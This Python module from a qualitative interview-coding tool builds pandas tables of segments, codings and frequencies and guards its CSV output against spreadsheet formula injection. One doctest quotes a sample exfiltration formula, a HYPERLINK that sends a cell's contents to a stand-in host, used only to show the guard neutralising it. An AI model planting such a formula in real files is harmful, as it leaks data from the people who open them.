"""Plain tables (pandas data frames) made from a coding result.

These are the tables analysis scripts and the report generator read:

``segments``
    One row per segment: ``segment_id, source, project, round, role,
    speaker, speaker_role, turn, unit, start, end, text`` and any other
    metadata columns (sorted by name).
``codings``
    One row per segment × code: ``segment_id, code, theme, score, method,
    evidence``.
``frequencies``
    One row per group (by default project × round) × code: how many
    codings, coded segments and sources (interviews) carry the code, and
    the share of the group's sources, with the denominators.

Rows are in a fixed order, so the same inputs give byte-identical files.
"""

from __future__ import annotations

from collections import defaultdict
from typing import TYPE_CHECKING, Any, Iterable, Iterator, Mapping, Sequence

if TYPE_CHECKING:  # pragma: no cover
    from .model import Codebook, Coding, Segment, Transcript

#: The metadata every transcript may carry and every table has a column for.
CORE_METADATA = ("project", "round", "role")

SEGMENT_COLUMNS = [
    "segment_id", "source", *CORE_METADATA, "speaker", "speaker_role",
    "turn", "unit", "start", "end", "text",
]
CODING_COLUMNS = ["segment_id", "code", "theme", "score", "method", "evidence"]
FREQUENCY_COUNTS = [
    "code", "theme", "label", "codings", "segments", "sources",
    "sources_total", "share_sources", "segments_total",
]

#: The first columns of a coding sheet of ``codingkit suggest`` (the turn and
#: its context), before one column per theme.
CONTEXT_COLUMNS = ("source", "turn", "project", "round", "role", "question", "text",
                   "codingkit")


def codingkit_output(columns: list[str]) -> str | None:
    """What codingkit wrote, if a table with these columns (its header row)
    is codingkit's own output — a coding sheet of ``suggest``, or the
    segments, codings or frequencies of ``apply`` — else ``None``. Only
    codingkit's whole column sequence counts, so a survey that happens to
    have a ``segment_id`` or ``method`` column is still a survey.

    >>> codingkit_output(["segment_id", "code", "theme", "score", "method", "evidence"])
    "a table of codingkit's results"
    >>> codingkit_output(["respondent", "segment_id", "method", "svar"]) is None
    True
    """
    cols = [str(c).strip().lower() for c in columns]
    if cols[:len(CONTEXT_COLUMNS)] == list(CONTEXT_COLUMNS):
        return "codingkit's coding sheet (from 'codingkit suggest')"
    if cols[:len(SEGMENT_COLUMNS)] == SEGMENT_COLUMNS or cols[:len(CODING_COLUMNS)] == \
            CODING_COLUMNS:
        return "a table of codingkit's results"
    if cols[-len(FREQUENCY_COUNTS):] == FREQUENCY_COUNTS:
        return "codingkit's frequency table"
    return None


if TYPE_CHECKING:  # pragma: no cover
    import pandas as pd

# Metadata that is not copied into the segment table (it is in the model already).
_SKIP_META = {"file", "source", "segment_id", "text", "start", "end", "turn", "speaker",
              "speaker_role", "unit"}


def segment_columns(segments: Sequence[Segment]) -> list[str]:
    """The columns of the segment table: :data:`SEGMENT_COLUMNS` and the
    other metadata keys of ``segments`` (sorted by name)."""
    extra = sorted({k for s in segments for k in s.metadata} - set(CORE_METADATA) - _SKIP_META)
    return SEGMENT_COLUMNS + extra


def transcript_segment_columns(transcripts: Sequence[Transcript]) -> list[str]:
    """The columns of the segment table of ``transcripts``, known before they
    are segmented: :func:`segment_columns` of their segments."""
    return SEGMENT_COLUMNS + sorted(transcript_metadata_columns(transcripts))


def transcript_metadata_columns(transcripts: Sequence[Transcript]) -> set[str]:
    """The metadata columns (beyond :data:`SEGMENT_COLUMNS`) that the segments
    of ``transcripts`` bring: a transcript gives segments when some turn has
    text, and its segments carry its metadata."""
    with_text = [t for t in transcripts
                 if any(not t.text[u.start:u.end].isspace() and u.end > u.start
                        for u in t.turns)]
    return {k for t in with_text for k in t.metadata} - set(CORE_METADATA) - _SKIP_META


def segment_rows(segments: Sequence[Segment], columns: Sequence[str] | None = None
                 ) -> Iterator[tuple]:
    """The rows of the segment table, one tuple per segment (see :func:`segment_columns`)."""
    columns = list(columns) if columns is not None else segment_columns(segments)
    meta_keys = [k for k in columns if k not in SEGMENT_COLUMNS or k in CORE_METADATA]
    n_core = len(CORE_METADATA)
    for s in segments:
        meta = [s.metadata.get(k, "") for k in meta_keys]
        yield (s.segment_id, s.source, *meta[:n_core], s.speaker or "", s.speaker_role,
               s.turn, s.unit, s.start, s.end, s.text, *meta[n_core:])


def coding_rows(codings: Iterable[Coding]) -> Iterator[tuple]:
    """The rows of the coding table (:data:`CODING_COLUMNS`), one tuple per coding."""
    for c in codings:
        yield (c.segment_id, c.code, c.theme, c.score, c.method, c.evidence)


def _frame(columns: list[str], rows: Iterable[tuple]) -> "pd.DataFrame":
    """A data frame built column by column (no dictionary per row)."""
    import pandas as pd

    cols: list[list] = [[] for _ in columns]
    appends = [c.append for c in cols]
    for row in rows:
        for append, value in zip(appends, row):
            append(value)
    return pd.DataFrame(dict(zip(columns, cols)), columns=columns)


def segments_table(segments: Sequence[Segment]) -> "pd.DataFrame":
    """One row per segment, with its metadata as columns."""
    columns = segment_columns(segments)
    df = _frame(columns, segment_rows(segments, columns))
    return df.astype({"turn": "int64", "start": "int64", "end": "int64"})


def codings_table(codings: Sequence[Coding]) -> "pd.DataFrame":
    """One row per segment × code."""
    df = _frame(CODING_COLUMNS, coding_rows(codings))
    return df.astype({"score": "float64"})


#: The group of sources whose metadata lacks a ``by`` key.
UNKNOWN_GROUP = "(okänd)"


def _group_key(meta, by: Sequence[str]) -> tuple[str, ...]:
    return tuple(str(meta.get(k, "") or "") or UNKNOWN_GROUP for k in by)


def metadata_keys(metadata: Iterable[Mapping[str, str]]) -> list[str]:
    """Every key of the ``metadata`` mappings, in order of first appearance.

    >>> metadata_keys([{"project": "Syd", "round": "1"}, {"project": "Öst", "kommun": "X"}])
    ['project', 'round', 'kommun']
    """
    known: dict[str, None] = {}
    for meta in metadata:
        known.update(dict.fromkeys(meta))
    return list(known)


def check_group_keys(metadata: Iterable[Mapping[str, str]], by: Sequence[str]) -> None:
    """E404 when a key of ``by`` is in none of the ``metadata`` (a misspelt
    ``--by rund`` would otherwise put every source in one group)."""
    from .errors import OutputError

    known = metadata_keys(metadata)
    # project, round and role may be missing everywhere: the sources then
    # count in the group "(okänd)" (see warn_unknown_groups)
    missing = [k for k in by if k not in known and k not in CORE_METADATA]
    if missing and known:
        raise OutputError(f"cannot count per {', '.join(missing)}: no transcript has that "
                          f"metadata; they have {', '.join(known)}", code="E404")


def warn_unknown_groups(transcripts: Sequence[Transcript], by: Sequence[str]) -> None:
    """A :class:`~codingkit.CodingkitWarning` per ``by`` key that some
    transcripts lack, naming their files: they count in the group
    ``"(okänd)"``."""
    import warnings

    from .errors import CodingkitWarning

    for key in by:
        files = list(dict.fromkeys(str(t.path or t.source) for t in transcripts
                                   if not str(t.metadata.get(key, "") or "")))
        if not files:
            continue
        more = len(files) - 1
        label = files[0] + (f" (and {more} more file{'s' if more > 1 else ''})" if more else "")
        warnings.warn(CodingkitWarning(
            f"no {key!r} in the header or manifest; counted in the group {UNKNOWN_GROUP!r} "
            f"(give it in a manifest.csv to count it where it belongs)", path=label),
            stacklevel=2)


def warn_duplicate_sources(transcripts: Sequence[Transcript]) -> None:
    """A :class:`~codingkit.CodingkitWarning` per set of input files with the
    same content (sha256), naming them: each file is a source of its own in
    the frequencies and the report, so a copy saved beside an interview
    (``intervju - kopia.docx``) counts that interview twice."""
    import warnings

    from .errors import CodingkitWarning

    files: dict[str, dict[str, None]] = {}
    for t in transcripts:
        if t.sha256:
            name = str(t.path) if t.path else t.source.split("#", 1)[0]
            files.setdefault(t.sha256, {})[name] = None  # a survey's rows: one file
    for sha, names in files.items():
        if len(names) < 2:
            continue
        first, *others = names
        more = f" (and {len(others) - 1} more)" if len(others) > 1 else ""
        warnings.warn(CodingkitWarning(
            f"has the same content as {others[0]}{more} (sha256 {sha[:12]}…): each file "
            "counts as a source of its own in the frequencies and the report; remove the "
            "copy if it is the same interview", path=first), stacklevel=2)


def frequencies_table(
    segments: Sequence[Segment],
    codings: Iterable[Coding],
    codebook: Codebook,
    transcripts: Sequence[Transcript] = (),
    *,
    by: Sequence[str] = ("project", "round"),
) -> "pd.DataFrame":
    """Count each code per group of sources.

    A theme's counts include its sub-codes (a segment coded with
    ``tidig_dialog.rfi`` counts for ``tidig_dialog`` too), counted once
    per segment.

    Parameters
    ----------
    segments, codings, codebook:
        From a :class:`~codingkit.model.CodingResult`.
    transcripts:
        All transcripts of the run, so that sources without any coded
        segment still count in the denominators. When empty, sources are
        taken from the segments.
    by:
        Metadata keys to group by (default project and round).

    Returns
    -------
    pandas.DataFrame
        Columns: the ``by`` keys, ``code``, ``theme``, ``label``,
        ``codings`` (codings of the code or its sub-codes), ``segments``
        (distinct segments), ``sources`` (distinct sources with the code),
        ``sources_total`` (sources in the group), ``share_sources``
        (``sources / sources_total``) and ``segments_total`` (respondent
        segments in the group).
    """
    by = tuple(by)
    return _frame([*by, *FREQUENCY_COUNTS],
                  frequency_rows(segments, codings, codebook, transcripts, by=by))


def frequency_rows(
    segments: Sequence[Segment],
    codings: Iterable[Coding],
    codebook: Codebook,
    transcripts: Sequence[Transcript] = (),
    *,
    by: Sequence[str] = ("project", "round"),
) -> list[tuple[Any, ...]]:
    """The rows of :func:`frequencies_table`, as tuples (``by`` keys, then
    :data:`FREQUENCY_COUNTS`)."""
    counter = FrequencyCounter(codebook, by=by)
    counter.add(segments, codings)
    return counter.rows(transcripts)


class FrequencyCounter:
    """The counts of :func:`frequencies_table`, added up part by part.

    ``add(segments, codings)`` counts one part of a run (every segment of a
    source and its codings in the same part); ``rows(transcripts)`` gives
    the table's rows. A run coded in parts (:mod:`codingkit.run`) so gives
    the table of the whole run without holding its segments.
    """

    def __init__(self, codebook: Codebook, *, by: Sequence[str] = ("project", "round")) -> None:
        self.codebook = codebook
        self.by = tuple(by)
        # ancestors (self included) of each code, for roll-up
        self._ancestors = {code.id: [code.id, *codebook.ancestors(code.id)]
                           for code in codebook}
        self._metadata: list[Mapping[str, str]] = []   # of the segments' sources
        self._segment_sources: dict[tuple, set[str]] = defaultdict(set)
        self._group_segments: dict[tuple, int] = defaultdict(int)
        self._codings: dict[tuple, int] = defaultdict(int)
        self._segments: dict[tuple, int] = defaultdict(int)
        self._sources: dict[tuple, int] = defaultdict(int)

    def add(self, segments: Sequence[Segment], codings: Iterable[Coding]) -> None:
        """Count a part: its segments (all of their sources' segments) and their codings."""
        by = self.by
        seg_by_id = {s.segment_id: s for s in segments}
        seen_meta: set[int] = set()
        for s in segments:
            g = _group_key(s.metadata, by)
            self._segment_sources[g].add(s.source)
            if id(s.metadata) not in seen_meta:
                seen_meta.add(id(s.metadata))
                self._metadata.append(s.metadata)
            if s.speaker_role == "respondent":
                self._group_segments[g] += 1
        seg_sets: dict[tuple, set[str]] = defaultdict(set)
        src_sets: dict[tuple, set[str]] = defaultdict(set)
        for c in codings:
            seg = seg_by_id.get(c.segment_id)
            if seg is None:
                continue
            g = _group_key(seg.metadata, by)
            for cid in self._ancestors.get(c.code, [c.code]):
                self._codings[(g, cid)] += 1
                seg_sets[(g, cid)].add(c.segment_id)
                src_sets[(g, cid)].add(seg.source)
        for key, ids in seg_sets.items():
            self._segments[key] += len(ids)
        for key, sources in src_sets.items():
            self._sources[key] += len(sources)

    def rows(self, transcripts: Sequence[Transcript] = ()) -> list[tuple[Any, ...]]:
        """The rows of the table; ``transcripts``: all of the run's (so that
        sources without a coded segment count in the denominators; when
        empty, the sources of the segments counted)."""
        by, codebook = self.by, self.codebook
        check_group_keys((t.metadata for t in transcripts) if transcripts else
                         self._metadata, by)
        if transcripts:
            group_sources: dict[tuple, set[str]] = defaultdict(set)
            for t in transcripts:
                group_sources[_group_key(t.metadata, by)].add(t.source)
        else:
            group_sources = self._segment_sources
        rows = []
        for g in sorted(group_sources):
            total_sources = len(group_sources[g])
            for code in codebook:
                n_src = self._sources.get((g, code.id), 0)
                rows.append((
                    *g,
                    code.id,
                    codebook.theme_of(code.id),
                    code.label,
                    self._codings.get((g, code.id), 0),
                    self._segments.get((g, code.id), 0),
                    n_src,
                    total_sources,
                    round(n_src / total_sources, 4) if total_sources else 0.0,
                    self._group_segments.get(g, 0),
                ))
        return rows


# --------------------------------------------------------------------------
# Formula injection (OWASP "CSV injection")
# --------------------------------------------------------------------------

#: A spreadsheet program reads a cell that starts with one of these as a
#: formula (tab and carriage return as OWASP lists them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTE = (*FORMULA_STARTS, "'")


def _is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return value.strip() == value and value[:1] in "+-0123456789." and "_" not in value


def neutralise_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet program cannot run as a formula.

    A text that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage
    return gets a leading ``'`` (as OWASP recommends), and so does one that
    starts with ``'`` itself, so that :func:`restore_cell` gives back every
    text exactly. Numbers (``-2``, ``+46``) and other cells stay as they are.

    >>> neutralise_cell('=HYPERLINK("http://x.example/?leak="&A1,"klicka")')[:12]
    "'=HYPERLINK("
    >>> neutralise_cell("@SUM(A1)"), neutralise_cell("'citat'"), neutralise_cell("-2")
    ("'@SUM(A1)", "''citat'", '-2')
    >>> neutralise_cell("Vi bjöd in leverantörerna"), neutralise_cell(3)
    ('Vi bjöd in leverantörerna', 3)
    """
    if isinstance(value, str) and value.startswith(_NEEDS_QUOTE) and not _is_number(value):
        return "'" + value
    return value


def restore_cell(value: Any) -> Any:
    """The text :func:`neutralise_cell` was given.

    >>> restore_cell("'=1+1"), restore_cell("''citat'"), restore_cell("text")
    ('=1+1', "'citat'", 'text')
    """
    if isinstance(value, str) and value.startswith("'"):
        return value[1:]
    return value


def neutralised_rows(rows: Iterable[tuple]) -> Iterator[tuple]:
    """``rows`` with every cell passed through :func:`neutralise_cell`."""
    starts = _NEEDS_QUOTE
    for row in rows:
        if any(isinstance(v, str) and v.startswith(starts) for v in row):
            yield tuple(neutralise_cell(v) for v in row)
        else:
            yield row


def unquote_cell(value: Any) -> Any:
    """A cell of a CSV file a person or codingkit wrote, with codingkit's
    formula guard taken off: the leading ``'`` goes only where
    :func:`neutralise_cell` would have put it (``'=1+1`` → ``=1+1``,
    ``''citat'`` → ``'citat'``), so a text that starts with ``'`` for
    another reason is kept.

    >>> unquote_cell("'-2 timmar"), unquote_cell("'hej"), unquote_cell("''citat'")
    ('-2 timmar', "'hej", "'citat'")
    """
    if isinstance(value, str) and value.startswith("'") and neutralise_cell(value[1:]) == value:
        return value[1:]
    return value


def csv_row(reader, limit: int) -> list[str]:
    """The next row of a :func:`csv.reader`, with fields of up to ``limit``
    characters.

    :func:`csv.field_size_limit` is global to the process: it is set for
    this one row and put back, so other code reading CSV is not affected
    (the reader checks it as it parses, and a survey's rows are read
    lazily, interleaved with other work).
    """
    import csv

    previous = csv.field_size_limit(limit)
    try:
        return next(reader)
    finally:
        csv.field_size_limit(previous)


def header_delimiter(text: str) -> str:
    """The delimiter of a table, from its header line alone: the most
    frequent of ``,``, ``;`` (as Swedish Excel writes CSV) and tab there
    (``,`` if none). A header names columns, so it is a surer guide than
    the cells below it, which may hold any punctuation.

    >>> header_delimiter('source;citat\\nx.txt;"Hon sa, ja"\\n')
    ';'
    >>> header_delimiter('source,citat\\nx.txt,"Hon sa; nej; sen gick hon"\\n')
    ','
    """
    first = text.split("\n", 1)[0]
    return max((",", ";", "\t"), key=first.count)


def csv_text(columns: Sequence[Any], rows: Iterable[Sequence[Any]], *, delimiter: str = ",",
             raw: bool = False) -> str:
    """A table as CSV text (``\\n`` line ends), every cell passed through
    :func:`neutralise_cell` unless ``raw``: what every CSV codingkit writes
    goes through, so that no cell opens as a formula in Excel or LibreOffice.

    >>> print(csv_text(["namn", "svar"], [("Anna", "=1+1"), ("Bo", "-2")]), end="")
    namn,svar
    Anna,'=1+1
    Bo,-2
    """
    import csv
    import io

    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\n")
    if raw:
        writer.writerow(columns)
        writer.writerows(rows)
    else:
        writer.writerow([neutralise_cell(c) for c in columns])
        writer.writerows(neutralised_rows(tuple(r) for r in rows))
    return buf.getvalue()


def frame_csv_text(frame: "pd.DataFrame", *, raw: bool = False) -> str:
    """A data frame as CSV text, as ``frame.to_csv(index=False)`` writes it
    (numbers, missing values), with its text cells and column names passed
    through :func:`neutralise_cell` unless ``raw``."""
    if not raw:
        frame = frame.rename(columns=neutralise_cell)
        import pandas as pd

        texts = [c for c in frame.columns
                 if frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c].dtype)]
        if texts:
            frame = frame.copy()
            for c in texts:
                frame[c] = frame[c].map(neutralise_cell)
    return frame.to_csv(index=False, lineterminator="\n")


def csv_is_neutralised(folder) -> bool:
    """Whether the CSV tables of a results folder were written with
    :func:`neutralise_cell` (its ``manifest.json`` says ``csv_raw: false``;
    folders of older versions, without the entry, hold raw CSV)."""
    import json
    from pathlib import Path

    try:
        manifest = json.loads((Path(folder) / "manifest.json").read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return False
    options = manifest.get("options") if isinstance(manifest, dict) else None
    return isinstance(options, dict) and options.get("csv_raw") is False


def restore_frame(frame: "pd.DataFrame", folder) -> "pd.DataFrame":
    """A table read from a results folder's CSV, with the texts as codingkit
    coded them: the leading ``'`` of neutralised cells (and column names)
    removed when the folder's CSV was neutralised (see :func:`csv_is_neutralised`)."""
    if not csv_is_neutralised(folder):
        return frame
    frame = frame.rename(columns=restore_cell)
    import pandas as pd

    for col in frame.columns:
        series = frame[col]
        if not (series.dtype == object or pd.api.types.is_string_dtype(series.dtype)):
            continue
        mask = series.map(lambda v: isinstance(v, str) and v.startswith("'")).astype(bool)
        if mask.any():
            frame[col] = series.where(~mask, series.str[1:])
    return frame
